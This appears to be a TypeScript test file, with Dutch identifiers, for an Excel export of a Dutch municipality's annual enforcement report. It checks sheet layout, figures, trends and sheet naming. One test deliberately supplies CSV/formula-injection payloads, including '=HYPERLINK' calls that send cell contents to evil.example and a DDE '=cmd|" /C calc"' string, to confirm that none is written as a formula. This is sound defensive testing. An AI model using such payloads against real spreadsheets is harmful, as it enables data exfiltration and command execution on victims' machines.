import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ValueType, Workbook, type Worksheet } from 'exceljs';
import { alleTabellen, type Jaarverslag } from '../model/jaarverslag';
import { voorbeeldJaarverslag } from '../test-support/voorbeeld-jaarverslag';
import { bladnaam } from './bladnaam';
import { jaarverslagAlsXlsx } from './jaarverslag-xlsx';

const uitvoer = join(__dirname, '../../../../tmp/rapportage');

async function lees(xlsx: Buffer): Promise<Workbook> {
  const boek = new Workbook();
  await boek.xlsx.load(xlsx as unknown as ArrayBuffer);
  return boek;
}

function kolomVan(blad: Worksheet, kop: string): number {
  const koppen = (blad.getRow(2).values as unknown[]).slice(1);
  const k = koppen.indexOf(kop);
  if (k < 0) throw new Error(`kolom ${kop} ontbreekt in ${blad.name}: ${koppen.join(' | ')}`);
  return k + 1;
}

/** Every part of the zip holding cells, read raw: no <f> (formula) element anywhere. */
function xmlVanBladen(pad: string): string {
  return execFileSync('unzip', ['-p', pad, 'xl/worksheets/*.xml', 'xl/sharedStrings.xml'], { encoding: 'utf8' });
}

describe('the report as XLSX', () => {
  const verslag = voorbeeldJaarverslag();

  it('opens with "Over dit verslag", then a sheet per table and per trend, header bold and frozen', async () => {
    const boek = await lees(await jaarverslagAlsXlsx(verslag));
    expect(boek.worksheets.map((blad) => blad.name)).toEqual([
      'Over dit verslag',
      'Damoclesbeleid 1-1-2020 t-m 31-',
      'Overzicht kamerverhuur',
      'Meldingen meldpunt overlast',
      'Trend Sluitingsbesluiten per ca',
      'Trend Ontvangen rapportages en',
      'Trend Panden in het register',
      'Trend Meldingen per categorie',
    ]);
    const over = boek.worksheets[0];
    const tekst = over.getSheetValues().flat().join(' | ');
    for (const verwacht of ['Kerkrade (GM0928)', '2020-01-01 t/m 2020-12-31', '2021-01-14', '2021-06-01T09:30:00.000Z', ...verslag.hoofdstukken.map((h) => h.titel)]) expect(tekst).toContain(verwacht);

    // Each chapter's sheets are linked from it.
    const links = over.getColumn(2).values.filter((waarde) => typeof waarde === 'object' && waarde !== null && 'hyperlink' in waarde);
    expect(links).toHaveLength(7);
    expect(links[0]).toEqual({ text: 'Damoclesbeleid 1-1-2020 t-m 31-', hyperlink: "#'Damoclesbeleid 1-1-2020 t-m 31-'!A1" });

    const damocles = boek.worksheets[1];
    expect(damocles.getCell('A1').value).toBe('Damoclesbeleid 1-1-2020 t/m 31-12-2020');
    expect(damocles.getRow(2).font?.bold ?? damocles.getCell('A2').font?.bold).toBe(true);
    expect(damocles.views[0]).toMatchObject({ state: 'frozen', xSplit: 1, ySplit: 2 });
    expect(damocles.getColumn(1).width).toBeGreaterThanOrEqual('Recidive (binnen 3 jaar opnieuw in hetzelfde pand)'.length);
  });

  it('holds every figure of every table as a number equal to the model\'s, "n.v.t." for null, and the figures as reported then', async () => {
    const boek = await lees(await jaarverslagAlsXlsx(verslag));
    alleTabellen(verslag).forEach(({ tabel }, t) => {
      const blad = boek.worksheets[1 + t];
      tabel.rijen.forEach((rij, r) => {
        const regel = blad.getRow(3 + r);
        expect(regel.getCell(1).value).toBe(rij.kop);
        for (const kolom of tabel.kolommen) {
          const cel = rij.cellen[kolom.sleutel];
          const excel = regel.getCell(kolomVan(blad, kolom.kop));
          if (cel === undefined) expect(excel.type).toBe(ValueType.Null);
          else if (cel.waarde === null) expect([excel.type, excel.value]).toEqual([ValueType.String, 'n.v.t.']);
          else if (typeof cel.waarde === 'number') expect([excel.type, excel.value]).toEqual([ValueType.Number, cel.waarde]);
          else expect(excel.value).toBe(cel.waarde);
        }
      });
    });
    const damocles = boek.worksheets[1];
    expect((damocles.getRow(2).values as unknown[]).slice(1)).toEqual([
      'Maatregel',
      'softdrugs',
      'softdrugs (zoals bekend op 2021-01-14)',
      'harddrugs',
      'attributen',
      'totalen',
      'totalen (zoals bekend op 2021-01-14)',
    ]);
    expect((damocles.getRow(3).values as unknown[]).slice(1)).toEqual(['Sluitingsbesluit', 30, 31, 10, 0, 40, 41]);
    expect((damocles.getRow(4).values as unknown[]).slice(1)).toEqual(['Waarschuwing', 2, 2, 'n.v.t.', 8, 10, 10]);
    // The changed cell carries its footnote; the footnotes stand under the table.
    expect(String(damocles.getCell('B3').note)).toContain('later herroepen');
    expect(damocles.getCell('A9').value).toMatch(/^1\. Met 1 verminderd: het sluitingsbesluit van zaak zaak-sd-3 is later herroepen/);
    // A table without changes has no "zoals bekend op" columns.
    expect(boek.worksheets[2].getRow(2).cellCount).toBe(4);
  });

  it('has each trend as years (rows) × series (columns) of numbers, to chart', async () => {
    const boek = await lees(await jaarverslagAlsXlsx(verslag));
    const blad = boek.worksheets[4];
    expect(blad.name).toBe('Trend Sluitingsbesluiten per ca');
    expect([2, 3, 4, 5].map((r) => (blad.getRow(r).values as unknown[]).slice(1))).toEqual([
      ['Jaar', 'softdrugs', 'harddrugs', 'attributen'],
      [2018, 22, 6, 1],
      [2019, 35, 9, 0],
      [2020, 30, 10, 0],
    ]);
  });

  it('never writes a formula, even for a title or text that looks like one', async () => {
    const kwaad: Jaarverslag = {
      ...verslag,
      hoofdstukken: [
        {
          ...verslag.hoofdstukken[0],
          titel: '=HYPERLINK("http://evil.example","klik")',
          tabellen: [
            {
              id: 'kwaad',
              titel: '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
              rijkop: '+rij',
              kolommen: [{ sleutel: 'a', kop: '@SUM(A1:A9)' }],
              rijen: [
                { kop: '-2+3', cellen: { a: { waarde: '=1+1', toen: '=2+2' } } },
                { kop: '\tcmd', cellen: { a: { waarde: -4 } } },
              ],
              voetnoten: [{ id: 'v', tekst: '=cmd|" /C calc"!A0' }],
            },
          ],
          trends: [{ id: 't', titel: '=SUM(1)', eenheid: '=x', jaren: [2019, 2020, 2021], reeksen: [{ naam: '=A1', waarden: [1, null, 3] }] }],
        },
      ],
    };
    const xlsx = await jaarverslagAlsXlsx(kwaad);
    mkdirSync(uitvoer, { recursive: true });
    const pad = join(uitvoer, 'formules.xlsx');
    writeFileSync(pad, xlsx);
    const xml = xmlVanBladen(pad);
    expect(xml).toContain('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;klik&quot;)');
    expect(xml).not.toMatch(/<f[\s>]/);

    const boek = await lees(xlsx);
    for (const blad of boek.worksheets) {
      blad.eachRow((rij) => rij.eachCell((cel) => expect([cel.address, cel.type]).not.toEqual([cel.address, ValueType.Formula])));
    }
    const blad = boek.worksheets[1];
    expect(blad.name).toBe('=HYPERLINK("http---evil.example');
    expect(blad.getCell('A1').value).toBe('=HYPERLINK("http://evil.example/?x="&A1,"klik")');
    expect((blad.getRow(3).values as unknown[]).slice(1)).toEqual(['-2+3', '=1+1', '=2+2']);
    expect(blad.getCell('B4').value).toBe(-4);
  });
});

describe('sheet names', () => {
  it('are what Excel accepts: no []:*?/\\, at most 31 characters, unique ignoring case, not History', () => {
    const gebruikt = new Set<string>();
    const namen = ['a/b\\c[d]e:f*g?h', 'x'.repeat(40), 'X'.repeat(40), 'x'.repeat(40), "'citaat'", 'History', '', 'Over dit verslag'].map((titel) => bladnaam(titel, gebruikt));
    expect(namen).toEqual(['a-b-c-d-e-f-g-h', 'x'.repeat(31), `${'X'.repeat(27)} (2)`, `${'x'.repeat(27)} (3)`, 'citaat', 'History (1)', 'Blad', 'Over dit verslag']);
    for (const naam of namen) expect(naam.length).toBeLessThanOrEqual(31);
  });
});
